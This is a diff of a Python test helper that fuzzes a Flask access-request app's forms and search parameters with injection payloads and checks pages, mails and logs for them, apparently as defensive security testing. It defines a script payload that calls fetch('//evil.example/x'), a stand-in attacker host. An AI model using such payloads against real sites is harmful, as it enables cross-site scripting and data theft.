@@ -10,21 +10,27 @@ import logging
 from collections import Counter
 from dataclasses import dataclass, field
 from typing import Any
-from urllib.parse import quote
+from urllib.parse import urlsplit
 
 from flask import Flask
 from playwright.sync_api import Browser as Chromium
 from playwright.sync_api import Page
+from werkzeug.exceptions import HTTPException
 
 from tests import factories
 from tests.conftest import Browser
 from tests.smtp_server import SmtpServer
-from webapp import logs
-from webapp.extensions import limiter
-from webapp.models import Person
+from tests.views import stage
+from webapp import links, logs
+from webapp.extensions import db, limiter
+from webapp.models import AccessRequest, Grant, Person
 from webapp.text import clean, one_line
+from webapp.workflow.entitlements import Entitlement
+from webapp.workflow.policy import Approver, Policy, StepRule
+from webapp.workflow.states import Visibility
 
 from .installation import send
+from .robots import Sight
 
 # What a payload does if it runs: each of these is looked for.
 DO = "window.pwned=1;alert(1);fetch('//evil.example/x')"
@@ -117,12 +123,17 @@ class Findings:
     mails: int = 0
     cells: int = 0
     lines: int = 0
+    # (route, field) of everything that a payload was typed into.
+    fields: set[tuple[str, str]] = field(default_factory=set)
     wrong: list[str] = field(default_factory=list)
 
 
 def throw(app: Flask, company: factories.Company, words: list[str], smtp: SmtpServer, chromium: Chromium | None,
           address: str) -> Findings:  # fmt: skip
     """Each payload through every field; then everything is looked at."""
+    for one in vars(company).values():
+        db.session.refresh(one)
+    db.session.expunge_all()  # they stay as they are, whatever session ends meanwhile
     found = Findings(len(words))
     root = logging.getLogger()
     handlers, level = list(root.handlers), root.level
@@ -130,7 +141,7 @@ def throw(app: Flask, company: factories.Company, words: list[str], smtp: SmtpSe
     logs.configure(stream=log)
     limiter.enabled = False
     try:
-        talk = _type_everywhere(app, company, words, found)
+        talk, *others = _type_everywhere(app, company, words, found)
         send()
         found.mails = len(smtp.mails)
         _look_at_mails(smtp, found)
@@ -141,7 +152,7 @@ def throw(app: Flask, company: factories.Company, words: list[str], smtp: SmtpSe
             company.rita: ["/", "/catalog", "/requests", talk],
             company.ana: ["/", "/approvals", talk.replace("/requests", "/approvals"), "/approvals/decided"],
             company.adam: ["/admin/apps", "/admin/people", "/admin/groups", "/admin/requests", "/admin/mail",
-                           "/admin/audit", "/mailbox"],
+                           "/admin/audit", "/mailbox", *others],
         }  # fmt: skip
         if chromium is not None:
             for person, some in paths.items():
@@ -155,44 +166,155 @@ def throw(app: Flask, company: factories.Company, words: list[str], smtp: SmtpSe
     return found
 
 
-def _type_everywhere(app: Flask, company: factories.Company, words: list[str], found: Findings) -> str:
-    """The address of the request that has every payload as a comment."""
-    admin, rita, ana, nobody = (Browser(app, one) for one in (company.adam, company.rita, company.ana, None))
-    talk = f"/requests/{factories.request(company.rita, factories.app('Talk', company.ana)).public_id}"
-    plain = factories.app("Plain", company.ana, owner=company.ben)
-    page = f"/admin/apps/{plain.public_id}"
+class _Hand:
+    """Types a payload into forms, and keeps which fields of which routes it was typed into."""
 
-    def post(browser: Browser, path: str, **form: str) -> Any:
-        answer = browser.post(path, form)
-        found.statuses[answer.status_code] += 1
-        if answer.status_code >= 500:
-            found.wrong.append(f"{path} answers {answer.status_code} to {form!r:.200}")
+    def __init__(self, app: Flask, company: factories.Company, found: Findings) -> None:
+        self.app, self.company, self.found = app, company, found
+        self._people: dict[str, Browser] = {}
+        self.word = ""
+
+    def takes(self, word: str, number: int) -> None:
+        self.word = word
+        if number % 50 == 0:  # changing rules and people needs a password of the last quarter of an hour
+            people: dict[str, Person | None] = {name: getattr(self.company, name) for name in ("adam", "rita", "ana")}
+            self._people = {name: Browser(self.app, one) for name, one in (people | {"nobody": None}).items()}
+
+    def post(self, who: str, path: str, **form: str) -> Any:
+        return self._told("POST", path, form, self._people[who].post(path, form))
+
+    def get(self, path: str, *names: str) -> None:
+        words = dict.fromkeys(names, self.word[:300])
+        self._told("GET", path, words, self._people["adam"].get(path, query_string=words))
+
+    def fill(self, page: str, action: str, **typed: str) -> None:
+        """An admin's form as the page has it now, with these words in it."""
+        for form in Sight(self._people["adam"].get(page).text).forms:
+            if form.action.endswith(action):
+                as_it_is = {name: value for name, kind, value in form.fields if name and kind in ("hidden", "text")}
+                self.post("adam", form.action, **as_it_is | typed)
+                return
+        self.found.wrong.append(f"{page} has no form for {action}")
+
+    def _told(self, method: str, path: str, form: dict[str, str], answer: Any) -> Any:
+        self.found.statuses[answer.status_code] += 1
+        if rule := rule_of(self.app, path, method):
+            self.found.fields |= {(rule, name) for name, value in form.items() if value and value in self.word}
+        # Refused as a stale form, or at the door, a payload would be looked at by nobody.
+        if answer.status_code >= 500 or answer.status_code in (401, 403, 405, 409):
+            self.found.wrong.append(f"{path} answers {answer.status_code} to {form!r:.200}")
         return answer
 
+
+def rule_of(app: Flask, path: str, method: str) -> str:
+    """The route behind an address; "" when there is none."""
+    try:
+        rule, _ = app.url_map.bind("localhost").match(urlsplit(path).path, method=method, return_rule=True)
+    except HTTPException:
+        return ""
+    return str(rule.rule)
+
+
+def _type_everywhere(app: Flask, company: factories.Company, words: list[str], found: Findings) -> list[str]:
+    """The addresses where it can be read; the first is of the request that has every payload as a comment."""
+    talk = f"/requests/{factories.request(company.rita, factories.app('Talk', company.ana)).public_id}"
+    group = f"/admin/groups/{company.finance.public_id}"
+    ben = f"person:{company.ben.public_id}"
+    hand = _Hand(app, company, found)
+    read = [talk]
     for number, one in enumerate(words):
         # A lone surrogate cannot be sent by a form; what a browser would send in its place can.
         word = one.encode("utf-8", "replace").decode()
-        post(rita, f"{talk}/comments", comment=word)
-        post(admin, "/admin/apps", name=word)
-        post(admin, f"{page}/note", note=word, was="{}")
-        post(admin, f"{page}/details", name=word, description=word, category=word, launch_url=word, was="{}")
-        post(admin, "/admin/groups", name=word)
-        post(admin, "/admin/people", name=word, email=word, about=word)
-        post(admin, "/admin/people", name=word, email=f"p{number}@example.com", about=word)
-        post(nobody, "/sign-in", email=word, password="x", next=word)
-        post(nobody, "/password/forgot", email=word)
-        post(rita, "/account/time-zone", time_zone=word)
+        hand.takes(word, number)
+        hand.post("rita", f"{talk}/comments", comment=word)
+        _at_the_door(hand, company, word)
+        _people_and_groups(hand, company, group, word, number)
         name = one_line(word)[:60] or "-"
-        wanted = factories.app(f"{name} {number}", company.ana, description=clean(word)[:500], category=name)
-        asked = post(rita, f"/catalog/{wanted.public_id}/request", message=word[:900])
-        if asked.status_code == 303 and number % 3 == 0:
-            post(ana, f"{asked.headers['Location']}/denial", reason=word[:900], comment=word[:900], code=word[:50])
-        for path in ("/catalog?q=", "/admin/people?q=", "/admin/audit?who=", "/admin/mail?q=", "/admin/requests?q="):
-            answer = admin.get(path + quote(word[:300], safe=""))
-            found.statuses[answer.status_code] += 1
-            if answer.status_code >= 500:
-                found.wrong.append(f"{path} answers {answer.status_code} to {word!r:.200}")
-    return talk
+        field = Entitlement("f", "Field", "text", requester=Visibility.WRITE)
+        step = StepRule(Approver(person=company.ana.id), None, {"f": Visibility.WRITE})
+        wanted = factories.app(f"{name} {number}", policy=Policy(steps=(step,), entitlements=(field,)),
+                               description=clean(word)[:500], category=name)  # fmt: skip
+        page = f"/admin/apps/{wanted.public_id}"
+        _rules(hand, company, page, word)
+        for path in ("/admin/requests", f"{page}/requests"):
+            hand.get(path, "q")
+            hand.get(path, "q", "person", "approver", "since", "until")
+        hand.get("/admin/audit", "who", "person", "since", "until")
+        hand.get("/admin/mail", "q", "since", "until")
+        for path in ("/catalog", "/admin/apps", "/admin/people", "/admin/groups", f"{page}/what-would-happen"):
+            hand.get(path, "q")
+        hand.get(group, "who")
+        asked = hand.post("rita", f"/catalog/{wanted.public_id}/request", message=word[:900], **{"field-f": word[:150]})
+        if asked.status_code == 303:
+            _ends(hand, company, db.session.query(AccessRequest).order_by(AccessRequest.id.desc()).first(), page, ben,
+                  word, number % 5)  # fmt: skip
+            if number % 10 < 2:
+                read += [asked.headers["Location"], page, f"{page}/mails/denied"]
+    return read
+
+
+def _at_the_door(hand: _Hand, company: factories.Company, word: str) -> None:
+    hand.post("nobody", "/sign-in", email=word, password="x", next=word)
+    hand.post("nobody", "/sign-in", email="rita@example.com", password=word)
+    hand.post("nobody", "/password/forgot", email=word)
+    hand.post("rita", "/account/time-zone", time_zone=word)
+    hand.post("rita", "/account/password", current=word, password=word, again=word, username=word)
+    otto = db.session.get_one(Person, company.otto.id, populate_existing=True)
+    path = f"/password/{links.password_token(otto.public_id, otto.password_round)}"
+    db.session.rollback()
+    hand.post("nobody", path, password=word, again=word, username=word)
+    hand.post("nobody", "/sign-out")
+
+
+def _people_and_groups(hand: _Hand, company: factories.Company, group: str, word: str, number: int) -> None:
+    hand.post("adam", "/admin/groups", name=word)
+    hand.fill(f"{group}/name", "/name", name=word)
+    hand.post("adam", "/admin/people", name=word, email=word, about=word)
+    hand.post("adam", "/admin/people", name=word, email=f"p{number}@example.com", about=word)
+    details = f"/admin/people/{company.chloe.public_id}/details"
+    for name in ("name", "about", "email"):
+        hand.fill(details, "/details", **{name: word})
+
+
+def _rules(hand: _Hand, company: factories.Company, page: str, word: str) -> None:
+    """Each field of an app's page by itself, so that one that is refused does not keep the others out."""
+    hand.post("adam", "/admin/apps", name=word)
+    for name in ("description", "category", "launch_url", "name"):
+        hand.fill(page, "/details", **{name: word})
+    hand.fill(page, "/note", note=word)
+    hand.fill(page, "/time-limit", days=word)
+    hand.post("adam", f"{page}/steps/person:{company.ana.public_id}/time-limit", days=word)
+    hand.post("adam", f"{page}/steps/new", q=word)
+    for name in ("words", "reasons", "others"):
+        hand.fill(page, "/outcomes/denied", **{"requester": "1", name: word})
+    for number, name in enumerate(("name", "help", "default")):
+        hand.post("adam", f"{page}/fields", **{"name": f"Field {number}", "kind": "text", name: word})
+    hand.post("adam", f"{page}/fields", name="Choice", kind="choice", options=word)
+
+
+def _ends(hand: _Hand, company: factories.Company, made: Any, page: str, ben: str, word: str, way: int) -> None:
+    """What people write when they end a request, in one of five ways."""
+    path, words = f"/requests/{made.public_id}", word[:900]
+    if way == 0:
+        hand.post("ana", f"{path}/denial", reason=words, comment=words)
+    elif way == 1:
+        hand.post("adam", f"/admin{path}/reassignment", q=word, reason=words, decider=ben)
+        hand.post("adam", f"/admin{path}/extension", days=word, reason=words)
+        hand.post("adam", f"/admin{path}/extension", days="30", reason=words)
+        hand.post("adam", f"/admin{path}/cancellation", reason=words)
+    elif way == 2:
+        link, code = stage.link(made, company.ana), stage.code(made, company.ana)
+        hand.post("nobody", f"{link}/denial", code=code, reason=" ", comment=words)
+        hand.post("nobody", f"{link}/approval", code=word[:50], reason=words, **{"field-f": word[:150]})
+        hand.post("nobody", f"{link}/approval", code=code, comment=words, **{"field-f": word[:150]})
+        for grant in db.session.query(Grant).filter(Grant.request_id == made.id).all():
+            home = f"/admin/people/{company.rita.public_id}/grants/{grant.public_id}"
+            db.session.rollback()
+            hand.post("adam", f"{home}/removal", reason=words)
+    elif way == 3:
+        hand.post("ana", f"{path}/approval", comment=words, reason=words, **{"field-f": word[:150]})
+    else:
+        hand.post("adam", f"{page}/archive", pending="cancel", why=words)
 
 
 def _look_at_texts(browser: Browser, talk: str, words: list[str], found: Findings) -> None:
